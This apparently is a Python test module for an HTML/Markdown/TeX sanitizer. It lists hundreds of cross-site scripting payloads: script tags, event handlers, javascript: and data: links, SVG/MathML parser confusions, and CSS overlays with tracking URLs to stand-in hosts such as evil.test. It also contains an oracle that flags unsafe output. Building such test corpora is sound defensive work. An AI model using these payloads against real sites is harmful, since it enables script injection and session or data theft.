"""Hostile texts, by the way they try to get in, and the oracle that says whether one did.

``hit()`` is what they want to call; in the browser test it exists.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

TAGS = (
    "<script>hit()</script>",
    "<SCRIPT>hit()</SCRIPT>",
    "<ScRiPt >hit()</sCrIpT >",
    "<script\n>hit()</script\n>",
    "<script/x>hit()</script>",
    "<script src=//evil.test/x.js></script>",
    "<script src='data:text/javascript,hit()'></script>",
    "<script type=module>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit()//<</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    "<iframe src='javascript:hit()'></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data='javascript:hit()'></object>",
    "<object data='data:text/html,<script>hit()</script>'></object>",
    "<embed src='javascript:hit()'>",
    "<applet code=hit></applet>",
    "<base href='javascript:hit()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<link rel=stylesheet href='data:text/css,*{}'>",
    "<link rel=import href='data:text/html,<script>hit()</script>'>",
    "<frameset onload=hit()><frame></frameset>",
    "<portal src='javascript:hit()'></portal>",
    "<template><script>hit()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<noembed><img src=x onerror=hit()></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=hit()>'></xmp>",
    "<plaintext><img src=x onerror=hit()>",
    "<textarea><img src=x onerror=hit()></textarea><img src=x onerror=hit()>",
    "<title><a title='</title><img src=x onerror=hit()>'></a></title>",
    "<select><option><script>hit()</script></option></select>",
    "<select><style></select><img src=x onerror=hit()></style></select>",
    "<!--><img src=x onerror=hit()>-->",
    "<!-- --!><img src=x onerror=hit()> -->",
    "<!DOCTYPE x [<!ENTITY e '<script>hit()</script>'>]>&e;",
    "<?xml version='1.0'?><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
)

HANDLERS = (
    "<img src=x onerror=hit()>",
    "<IMG SRC=x OnErRoR=hit()>",
    "<img/src=x/onerror=hit()>",
    "<img src=x onerror\n=\nhit()>",
    "<img src=x onerror\x0c=hit()>",
    "<img src=x \x00onerror=hit()>",
    "<img src=x on\x00error=hit()>",
    "<img src='x' alt='' onerror=\"hit()\"",
    "<img src=x onerror=hit()//",
    "<img src=x:x onerror=&#104;it()>",
    "<img src=`x`onerror=hit()>",
    "<img src=x style='x' onerror=hit() x='",
    '<img """><script>hit()</script>">',
    "<body onload=hit()>",
    "<html onclick=hit()>",
    "<div onmouseover=hit()>over</div>",
    "<div onpointerrawupdate=hit()>over</div>",
    "<p onclick=hit()>click</p>",
    "<b onfocus=hit() tabindex=0 autofocus>x</b>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()></select>",
    "<textarea autofocus onfocus=hit()></textarea>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<video src=x onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<marquee onstart=hit()>x</marquee>",
    "<style onload=hit()></style>",
    "<a href=x onbeforeinput=hit() contenteditable>x</a>",
    "<div onanimationstart=hit() style='animation:x 1s'>x</div>",
    "<div popover onbeforetoggle=hit()>x</div><button popovertarget=x>y</button>",
    "<p accesskey=x onclick=hit()>x</p>",
    "<x onclick=hit()>unknown</x>",
    "<b/onclick=hit()//x>x</b>",
)

LINKS = (
    "<a href='javascript:hit()'>x</a>",
    "<a href='JaVaScRiPt:hit()'>x</a>",
    "<a href=' javascript:hit()'>x</a>",
    "<a href='\x01javascript:hit()'>x</a>",
    "<a href='java\tscript:hit()'>x</a>",
    "<a href='java\nscript:hit()'>x</a>",
    "<a href='java&Tab;script:hit()'>x</a>",
    "<a href='javascript&colon;hit()'>x</a>",
    "<a href='&#106;avascript:hit()'>x</a>",
    "<a href='&#x6a&#x61vascript:hit()'>x</a>",
    "<a href='&#0000106avascript:hit()'>x</a>",
    "<a href='javascript://%0ahit()'>x</a>",
    "<a href='vbscript:hit()'>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='view-source:javascript:hit()'>x</a>",
    "<a href='blob:https://evil.test/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='command:workbench.action.terminal.new'>x</a>",
    "<a href='vscode://evil/x'>x</a>",
    "<a href='#x' ping='https://evil.test'>x</a>",
    "<a href='x' download=evil.exe>x</a>",
    "<a href=x target=_top rel=opener>x</a>",
    "<img src='javascript:hit()'>",
    "<img src='data:image/svg+xml,<svg onload=hit()>'>",
    "<img src='data:text/html,<script>hit()</script>'>",
    "<img srcset='javascript:hit() 1x'>",
    "<img src=x usemap=#m><map name=m><area href='javascript:hit()'></map>",
    "<table background='javascript:hit()'><tr><td>x</td></tr></table>",
    "<blockquote cite='javascript:hit()'>x</blockquote>",
    "[x](javascript:hit())",
    "[x](JAVASCRIPT:hit())",
    "[x](javascript&colon;hit())",
    "[x](&#106;avascript:hit())",
    "[x](java\\script:hit())",
    "[x](<javascript:hit()>)",
    "[x](<java\tscript:hit()>)",
    "[x]( javascript:hit() 'title')",
    "[x](vbscript:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](data:image/svg+xml,<svg/onload=hit()>)",
    '[x](https://ok.test/"onclick="hit())',
    "[x](https://ok.test 'a\" onclick=\"hit()')",
    '[x](https://ok.test "a&quot; onclick=&quot;hit()")',
    "[x]: javascript:hit()\n\n[x]",
    '[x]: https://ok.test (a" onclick="hit\\(\\))\n\n[x]',
    "<javascript:hit()>",
    "<javascript://x%0ahit()>",
    "![x](javascript:hit())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+)",
    '![" onerror="hit()](x)',
    '![a](x "b" onerror="hit()")',
    "![<img src=x onerror=hit()>](x)",
    "[![x](javascript:hit())](javascript:hit())",
    "[a](b)<img src=x onerror=hit()>",
    'https://ok.test/"onmouseover="hit()',
    "https://ok.test/'><img src=x onerror=hit()>",
    'www.ok.test/"><img/src=x/onerror=hit()>',
    'a@b.test"><img src=x onerror=hit()>',
    "javascript:hit()",
    "http://javascript:hit()@ok.test",
)

NAMESPACES = (
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><script href='data:,hit()'/></svg>",
    "<svg><a xlink:href='javascript:hit()'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values='javascript:hit()'/><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()/>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<svg><style><img title='</style><img src=x onerror=hit()>'></svg>",
    "<svg><desc><p title='</desc></svg><img src=x onerror=hit()>'></desc></svg>",
    "<math href='javascript:hit()'>x</math>",
    "<math><mi xlink:href='javascript:hit()'>x</mi></math>",
    "<math><maction actiontype='statusline#javascript:hit()'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
    "<math><mtext><mglyph><style><img src='</style><img src=x onerror=hit()>'></style></mglyph></mtext></math>",
    "<math><mi></p><p><img src=x onerror=hit()></mi></math>",
    "<math><semantics><annotation><script>hit()</script></annotation></semantics></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<math><mrow class='jp-Button' id=app data-commandlinker-command='x'>x</mrow></math>",
    "<math><mspace width='-9999px'></mspace><mpadded voffset='-9999px'>x</mpadded></math>",
)

FURNITURE = (
    "<div style='position:fixed;inset:0'>cover</div>",
    "<div style='POSITION:FIXED;top:0'>cover</div>",
    "<div style='pos\\69tion:fixed'>cover</div>",
    "<div style='position/**/:fixed'>cover</div>",
    "<div style='color:red;;position : fixed'>cover</div>",
    "<div style='font-family:\"a;position:fixed\"'>cover</div>",
    "<div style='margin:-999px'>cover</div>",
    "<div style='margin-left:calc(0px - (999px*9))'>cover</div>",
    "<div style='transform:translate(-99em)'>cover</div>",
    "<div style='z-index:99999'>cover</div>",
    "<div style='box-shadow:0 0 0 9999px red'>cover</div>",
    "<div style='background:url(javascript:hit())'>x</div>",
    "<div style='background:u\\72l(https://evil.test)'>x</div>",
    "<div style='background-image:url(//evil.test/track)'>x</div>",
    "<div style='background:image-set(\"//evil.test/x\" 1x)'>x</div>",
    "<div style='width:expression(hit())'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x.xml#x)'>x</div>",
    "<div style='@import url(x)'>x</div>",
    "<div style='color:red\"onclick=\"hit()'>x</div>",
    "<span style=\"--lit-icon:url('data:image/svg+xml,%3Csvg onload=hit()%3E')\">x</span>",
    "<style>*{background:url(//evil.test)}</style>",
    "<style>@import '//evil.test/x.css';</style>",
    "<div class='jp-Dialog'>x</div>",
    "<div class='a JP-Dialog lm-Widget b'>x</div>",
    "<div class='a\x0bjp-Dialog'>x</div>",
    "<div class='&#106;p-Notebook'>x</div>",
    "<button data-commandlinker-command='terminal:create-new'>x</button>",
    "<a data-commandlinker-command='x' data-commandlinker-args='{}'>x</a>",
    "<form action='javascript:hit()'><input type=submit></form>",
    "<form id=x></form><button form=x formaction='javascript:hit()'>x</button>",
    "<isindex action='javascript:hit()' type=image>",
    "<input type=image src=x onerror=hit()>",
    "<a id=document name=cookie>x</a>",
    "<img name=body src=x>",
    "<a id=x><a id=x name=y href=z>x</a>",
    "<h1 id='main'>x</h1>",
    "<div is='evil-element' slot=x part=y>x</div>",
    "<p contenteditable draggable=true hidden inert>x</p>",
    "<dialog open>x</dialog>",
)

MARKDOWN = (
    '```"><script>hit()</script>\nx\n```',
    "```<img src=x onerror=hit()>\nx\n```",
    "```python onclick=hit()\n</code></pre><img src=x onerror=hit()>\n```",
    "~~~ 'x' onload=hit()\n<script>hit()</script>\n~~~",
    "`<img src=x onerror=hit()>`",
    "``</code><img src=x onerror=hit()>``",
    "    <img src=x onerror=hit()>",
    ":red[<img src=x onerror=hit()>]",
    ':red-background["><script>hit()</script>]',
    ':"onclick=hit()-badge[x]',
    ':color[x]{foreground="red;position:fixed"}',
    ':color[x]{foreground="red" onclick="hit()"}',
    ':color[x]{background="url(//evil.test)"}',
    ':color[x]{foreground="rgb(0,0,0);background:url(x)"}',
    ':material/home"onclick=hit():',
    ":material/<img src=x onerror=hit()>:",
    ":material/../../x:",
    ":<script>hit()</script>:",
    "|a|\n|-|\n|<img src=x onerror=hit()>|",
    '|a|\n|:-" onclick=hit():|\n|x|',
    "- [x] <img src=x onerror=hit()>",
    "- [<img src=x onerror=hit()>](x)",
    "# <img src=x onerror=hit()>",
    '# a" onclick="hit()',
    "*<img src=x onerror=hit()>*",
    "**[x](javascript:hit())**",
    "<b\n\nonclick=hit()>x</b>",
    "<div>\n\n<script>hit()</script>\n\n</div>",
    "\\<img src=x onerror=hit()>",
    "&lt;img src=x onerror=hit()&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;hit()",
    '<a href="x\n\n" onclick=hit()>x</a>',
    "\u202e<img src=x onerror=hit()>",
    "\ud800<img src=x onerror=hit()>",
    "<img src=x\ufffdonerror=hit()>",
    "\ufeff<script>hit()</script>",
    "<img\u00a0src=x\u00a0onerror=hit()>",
    "<\u0000script>hit()</script>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
)

TEX = (
    "$\\href{javascript:hit()}{x}$",
    "$\\url{javascript:hit()}$",
    "$\\text{<img src=x onerror=hit()>}$",
    "$\\text{</math><img src=x onerror=hit()>}$",
    "$\\text{&lt;script&gt;hit()&lt;/script&gt;}$",
    "$\\mbox{</mtext></math><script>hit()</script>}$",
    "$\\class{jp-Dialog}{x}$",
    "$\\cssId{app}{x}$",
    "$\\style{position:fixed}{x}$",
    '$\\color{red" onclick="hit()}{x}$',
    "$\\textcolor{red;background:url(x)}{x}$",
    "$\\hspace{-9999px}x\\raise{9999px}{x}$",
    "$\\unicode{60}script\\unicode{62}$",
    "$\\verb|<img src=x onerror=hit()>|$",
    "$\\htmlData{commandlinker-command=x}{y}$",
    "$\\frac<img src=x onerror=hit()>$",
    "$\\begin{<script>hit()</script>}$",
    "$$\n</p><script>hit()</script>\n$$",
    "$\\newcommand{\\x}{<script>hit()</script>}\\x$",
    "$\\operatorname{<b onclick=hit()>}$",
    "$&#x3c;img src=x onerror=hit()&#x3e;$",
    "$<script>hit()</script$",
)

PAYLOADS: tuple[str, ...] = TAGS + HANDLERS + LINKS + NAMESPACES + FURNITURE + MARKDOWN + TEX


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


# The oracle. It shares no list with the code under test, and it reads HTML with another parser.
ALLOWED_TAGS = _words(
    "p h1 h2 h3 h4 h5 h6 em strong b i u s del ins mark small code pre kbd samp var q cite abbr blockquote ul ol "
    "li dl dt dd table thead tbody tfoot tr th td caption colgroup col a img hr br wbr sup sub span div details "
    "summary section article header footer figure figcaption math mrow mi mn mo ms mtext mspace mfrac msqrt mroot "
    "msub msup msubsup munder mover munderover mmultiscripts mprescripts mtable mtr mtd mstyle mpadded mphantom "
    "menclose merror"
)
BANNED_ATTRIBUTES = _words(
    "id name srcdoc srcset action formaction form ping background cite data code download usemap is slot part "
    "popover popovertarget contenteditable accesskey tabindex autofocus draggable xlink:href http-equiv"
)
ICON = re.compile(
    r"--lit-icon:url\('data:image/svg\+xml,%3Csvg xmlns=%22http://www\.w3\.org/2000/svg%22 "
    r"viewBox=%220 -960 960 960%22%3E%3Cpath d=%22[A-Za-z0-9 .,-]+%22/%3E%3C/svg%3E'\)"
)
STYLE_FAULT = re.compile(
    r"position|z-index|transform|shadow|url|image|expression|behavior|binding|@|\\|/\*|calc|-\s*[\d(]", re.I
)
LINK = re.compile(r"(?:https?:|mailto:|tel:|(?![^/?#]*:))", re.I)
PICTURE = re.compile(r"(?:https?:|data:image/(?:png|jpeg|gif|webp|avif)[;,]|(?![^/?#]*:))", re.I)


class Oracle(HTMLParser):
    """Collects what a piece of HTML must not have."""

    def __init__(self, html: str, anchors: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.anchors = anchors
        self.feed(html)
        if self.rawdata:
            self.faults.append(f"unfinished markup {self.rawdata!r}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.faults.append(f"tag {tag}")
        for name, value in attrs:
            if fault := self._fault(tag, name, value or ""):
                self.faults.append(f"{tag} {name}={value!r}: {fault}")

    handle_startendtag = handle_starttag

    def _fault(self, tag: str, name: str, value: str) -> str | None:
        if self.anchors and name == "id" and tag[0] == "h" and value.startswith("lit-"):
            return None
        if name.startswith(("on", "data-")) or (name in BANNED_ATTRIBUTES and (tag, name) != ("mo", "form")):
            return "attribute"
        if name in ("href", "src"):
            plain = re.sub(r"[\x00-\x20]", "", value)
            return None if (LINK if name == "href" else PICTURE).match(plain) else "address"
        if name == "class":
            return "class" if re.search(r"(?:^|\s)(?:jp|lm)-", value, re.I) else None
        if name == "style":
            return None if ICON.fullmatch(value) and tag == "span" else STYLE_FAULT.search(value) and "style"
        if name in ("width", "height", "depth", "voffset", "lspace", "rspace"):
            return "length" if re.match(r"-\s*\d{2}", value) else None
        if name == "target":
            return None if value == "_blank" else "target"
        return None

    def _other(self, data: str) -> None:
        self.faults.append(f"markup {data!r}")

    handle_comment = handle_decl = handle_pi = unknown_decl = _other


def faults(html: str, *, anchors: bool = False) -> list[str]:
    """Give what makes `html` unsafe; nothing if it is safe."""
    return Oracle(html, anchors).faults
